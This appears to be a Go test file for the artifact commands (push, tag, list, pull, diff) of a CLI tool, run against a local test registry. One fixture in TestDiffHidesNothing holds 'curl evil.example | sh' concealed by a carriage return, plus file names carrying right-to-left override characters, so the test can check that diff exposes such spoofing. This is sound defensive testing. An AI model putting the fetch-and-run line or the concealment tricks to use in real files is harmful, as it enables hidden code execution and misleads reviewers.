package artifacts

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/distribution/distribution/v3/configuration"
	"github.com/distribution/distribution/v3/registry/handlers"
	_ "github.com/distribution/distribution/v3/registry/storage/driver/filesystem" // storage of the registry
	"github.com/sirupsen/logrus"
	"github.com/spf13/cobra"

	"github.com/lanyard-dev/lanyard/internal/artifact/oci"
	"github.com/lanyard-dev/lanyard/internal/cli/creds"
	"github.com/lanyard-dev/lanyard/internal/cli/frame"
	"github.com/lanyard-dev/lanyard/internal/golden"
	"github.com/lanyard-dev/lanyard/internal/must"
)

// distribution returns the HTTP handler of a new registry, made with the project Distribution. The
// registry stores its content in a temporary folder.
func distribution(t *testing.T) http.Handler {
	t.Helper()
	logrus.SetOutput(io.Discard)
	config := &configuration.Configuration{Storage: configuration.Storage{
		"filesystem":  configuration.Parameters{"rootdirectory": t.TempDir()},
		"maintenance": configuration.Parameters{"uploadpurging": map[any]any{"enabled": false}},
	}}
	config.HTTP.Secret = "for one test"
	config.Log.Level = "panic"
	config.Log.AccessLog.Disabled = true
	return handlers.NewApp(t.Context(), config)
}

// serve starts a registry on loopback and returns its host:port.
func serve(t *testing.T, registry http.Handler) string {
	t.Helper()
	server := httptest.NewServer(registry)
	t.Cleanup(server.Close)
	return strings.TrimPrefix(server.URL, "http://")
}

// process is a process of the command lanyard.
type process struct {
	out, err bytes.Buffer
	terminal bool
	uploads  string
	env      map[string]string
	sink     io.Writer         // receives the output in place of out, unless nil
	written  func(text []byte) // is called before each write of the output; may be nil
}

// Write implements io.Writer for the command's output.
func (p *process) Write(text []byte) (int, error) {
	if p.written != nil {
		p.written(text)
	}
	if p.sink != nil {
		return p.sink.Write(text)
	}
	return p.out.Write(text)
}

// run runs a command against a registry without TLS, and returns the exit status.
func (p *process) run(ctx context.Context, args ...string) int {
	return p.exactly(ctx, append(args, "--insecure-registry")...)
}

// exactly is like run, but adds nothing to the arguments.
func (p *process) exactly(ctx context.Context, args ...string) int {
	root := &cobra.Command{Use: frame.Name}
	root.AddCommand(Commands(IO{
		Out: p, Err: &p.err, Terminal: p.terminal, Uploads: p.uploads,
		Credentials: creds.Process{Env: func(name string) string { return p.env[name] }, NewCluster: func() creds.Cluster { return noCluster{} }},
	})...)
	return frame.Run(ctx, root, args, p, &p.err)
}

// noCluster is the creds.Cluster of a job without a cluster. Its method AddTo adds no flags to a
// command.
type noCluster struct{ creds.Cluster }

func (noCluster) AddTo(*cobra.Command) {}

// mustRun runs a command that must succeed, and returns its output.
func mustRun(t *testing.T, args ...string) string {
	t.Helper()
	var p process
	if status := p.run(t.Context(), args...); status != 0 {
		t.Fatalf("lanyard %s: status %d: %s", strings.Join(args, " "), status, p.err.String())
	}
	return p.out.String()
}

// folder writes files into a new folder. A file whose name ends in "*" is written as an executable,
// without the "*".
func folder(t *testing.T, files map[string]string) string {
	t.Helper()
	root := t.TempDir()
	for name, body := range files {
		mode := os.FileMode(0o600)
		if rest, ok := strings.CutSuffix(name, "*"); ok {
			name, mode = rest, 0o700
		}
		file := filepath.Join(root, name)
		must.Succeed(t, os.MkdirAll(filepath.Dir(file), 0o755))
		must.Succeed(t, os.WriteFile(file, []byte(body), mode))
	}
	return root
}

// tree returns the names, modes and contents below a folder, one on each line.
func tree(t *testing.T, root string) string {
	t.Helper()
	var lines []string
	err := filepath.WalkDir(root, func(path string, d os.DirEntry, err error) error {
		if err != nil || path == root {
			return err
		}
		name, _ := filepath.Rel(root, path)
		if d.IsDir() {
			lines = append(lines, name+"/")
			return nil
		}
		info, err := d.Info()
		if err != nil {
			return err
		}
		body, err := os.ReadFile(path)
		lines = append(lines, fmt.Sprintf("%s %v %q", name, info.Mode().Perm()&0o100 != 0, body))
		return err
	})
	must.Succeed(t, err)
	return strings.Join(lines, "\n")
}

// TestDiffHidesNothing checks that diff prints no bare CR and no U+202E from a stranger's artifact.
// These characters make a terminal overwrite a line or reorder its text.
func TestDiffHidesNothing(t *testing.T) {
	app := "oci://" + serve(t, distribution(t)) + "/app:1.0.0"
	mustRun(t, "push", "artifact", app, "--path", folder(t, map[string]string{
		"dos.bat": "old\r\n", "run.sh": "curl evil.example | sh\rmake test\n", "run\u202etxt.sh": "1", "bin\u202etxt.sh": "\x00",
	}))
	var p process
	status := p.run(t.Context(), "diff", "artifact", app, "--path", folder(t, map[string]string{"dos.bat": "new\r\n", "run.sh": "make test\n"}))
	shown := p.out.String()
	if status == 0 || strings.Contains(shown, "\rmake") || strings.Contains(shown, "\u202e") {
		t.Errorf("status %d: %q", status, shown)
	}
	for _, line := range []string{"files a/run.sh and b/run.sh differ\n", "+new\r\n", "--- a/run txt.sh\n", "removed bin txt.sh\n"} {
		if !strings.Contains(shown, line) {
			t.Errorf("no line %q in %q", line, shown)
		}
	}
}

// TestDiffOfAFile checks a --path that is a file or an archive. diff packs it as push does, and
// compares the result.
func TestDiffOfAFile(t *testing.T) {
	app := "oci://" + serve(t, distribution(t)) + "/app"
	files := folder(t, map[string]string{"app.yaml": "kind: App\n", "other/app.yaml": "kind: Other\n"})
	packed := func(name, content string) string {
		path := filepath.Join(t.TempDir(), name)
		file, err := os.Create(path)
		must.Succeed(t, err)
		defer file.Close()
		if _, err := (oci.Artifact{Path: folder(t, map[string]string{"a/app.yaml": content})}).Pack(t.Context(), file); err != nil {
			t.Fatal(err)
		}
		return path
	}
	mustRun(t, "push", "artifact", app+":file", "--path", filepath.Join(files, "app.yaml"))
	mustRun(t, "push", "artifact", app+":archive", "--path", packed("app.tgz", "1\n"))
	mustRun(t, "push", "artifact", app+":folder", "--path", folder(t, map[string]string{"a/app.yaml": "1\n"}))
	for _, tt := range []struct {
		tag, path string
		status    int
		shows     string
	}{
		{"file", filepath.Join(files, "app.yaml"), 0, ""},
		{"file", filepath.Join(files, "other", "app.yaml"), 1, "-kind: App\n+kind: Other\n"},
		{"archive", packed("other.tgz", "1\n"), 0, ""},
		{"folder", packed("app.tgz", "1\n"), 0, ""},
		{"archive", packed("app.tgz", "2\n"), 1, "-1\n+2\n"},
		{"archive", "/dev/null", 3, ""},
	} {
		var p process
		status := p.run(t.Context(), "diff", "artifact", app+":"+tt.tag, "--path", tt.path)
		if status != tt.status || !strings.HasSuffix(p.out.String(), tt.shows) || (p.out.Len() > 0) != (tt.status == 1) {
			t.Errorf("%s and %s: status %d: %s%s", tt.tag, tt.path, status, p.out.String(), p.err.String())
		}
	}
}

// TestDiffWritesAtOnce checks that a difference is written as soon as it is found. If the command
// fails afterwards, its exit status must be Undecided. For diff, the status Failed means that the
// comparison is complete and has found differences.
func TestDiffWritesAtOnce(t *testing.T) {
	app := "oci://" + serve(t, distribution(t)) + "/app:1.0.0"
	mustRun(t, "push", "artifact", app, "--path", folder(t, map[string]string{"a.yaml": "1\n", "z.yaml": "1\n"}))
	for _, format := range []string{frame.Text, frame.JSON, frame.YAML} {
		now := folder(t, map[string]string{"a.yaml": "2\n", "z.yaml": "2\n"})
		p := process{written: func(text []byte) {
			if bytes.Contains(text, []byte("a.yaml")) {
				_ = os.Remove(filepath.Join(now, "z.yaml")) // diff reads z.yaml next, and fails
			}
		}}
		status := p.run(t.Context(), "diff", "artifact", app, "--path", now, "-o", format)
		if status != frame.Undecided || !strings.Contains(p.out.String(), "a.yaml") || strings.Contains(p.out.String(), "z.yaml") {
			t.Errorf("%s: status %d: %s%s", format, status, p.out.String(), p.err.String())
		}
	}
}

// TestCommands pushes, tags, lists, pulls and compares an artifact. The golden file has the output
// of each command.
func TestCommands(t *testing.T) {
	host := serve(t, distribution(t))
	app := "oci://" + host + "/team/app"
	source := folder(t, map[string]string{
		"app.yaml": "kind: App\nreplicas: 1\n", "sub/run.sh*": "#!/bin/sh\n", "logo.png": "left out", ".git/config": "left out", "data.bin": "\x00\x01",
	})
	target := filepath.Join(t.TempDir(), "new", "target")
	now := folder(t, map[string]string{"app.yaml": "kind: App\nreplicas: 2\n", "sub/run.sh": "#!/bin/sh\n", "data.bin": "\x00\x02", "new.yaml": "kind: New\n"})
	mustRun(t, "push", "artifact", app+":0.9.0", "--path", now, "--reproducible")
	mustRun(t, "push", "artifact", app+":latest", "--path", now, "--reproducible")
	var all strings.Builder
	for _, args := range [][]string{
		{"push", "artifact", app + ":1.10.0", "--path", source, "--reproducible", "--source=https://example.com/app", "--revision=main@sha1:0123", "-a", "team=a"},
		{"push", "artifact", app + ":1.10.0", "--path", source, "--reproducible", "--source=https://example.com/app", "--revision=main@sha1:0123", "-a", "team=a", "-o", "json"},
		{"push", "artifact", app + ":1.10.0", "--path", source, "--reproducible", "--source=https://example.com/app", "--revision=main@sha1:0123", "-a", "team=a", "-o", "yaml"},
		{"tag", "artifact", app + ":1.10.0", "--tag=1.9.0,v2.0.0-rc.1", "--tag=stable"},
		{"tag", "artifact", app + ":1.10.0", "--tag=stable", "-o", "yaml"},
		{"list", "artifact", app},
		{"list", "artifacts", app, "--filter-semver=>=1.0.0", "--limit=1"},
		{"list", "artifact", app, "--filter-regex=^l", "-o", "json"},
		{"list", "artifact", app, "--details", "--filter-semver=>=1.0.0-0"},
		{"list", "artifact", app, "--details", "--filter-regex=stable", "-o", "yaml"},
		{"pull", "artifact", app + ":stable", "--path", target},
		{"pull", "artifact", app + ":stable", "--path", target, "--replace", "-o", "json"},
		{"pull", "artifact", app + ":stable", "--path", target, "--replace", "-o", "yaml"},
		{"diff", "artifact", app + ":stable", "--path", source},
		{"diff", "artifact", app + ":stable", "--path", now},
		{"diff", "artifact", app + ":stable", "--path", now, "-o", "json"},
		{"diff", "artifact", app + ":stable", "--path", now, "-o", "yaml"},
		{"diff", "artifact", app + ":stable", "--path", source, "-o", "json"},
		{"diff", "artifact", app + ":stable", "--path", source, "-o", "yaml"},
	} {
		var p process
		status := p.run(t.Context(), args...)
		fmt.Fprintf(&all, "$ lanyard %s\n%s%sexit status %d\n\n", strings.Join(args, " "), p.out.String(), p.err.String(), status)
	}
	text := strings.NewReplacer(host, "registry.example.com", source, "./source", target, "./target", now, "./now").Replace(all.String())
	text = regexp.MustCompile(`sha256:[0-9a-f]{64}`).ReplaceAllString(text, "sha256:DIGEST") // digests and sizes depend on the compressor
	text = regexp.MustCompile(`("?size"?:) \d+`).ReplaceAllString(text, "$1 SIZE")
	golden.Compare(t, "testdata/commands.golden", []byte(text))
	want := "app.yaml false \"kind: App\\nreplicas: 1\\n\"\ndata.bin false \"\\x00\\x01\"\nsub/\nsub/run.sh true \"#!/bin/sh\\n\""
	if got := tree(t, target); got != want {
		t.Errorf("pulled\n%s\nwant\n%s", got, want)
	}
}
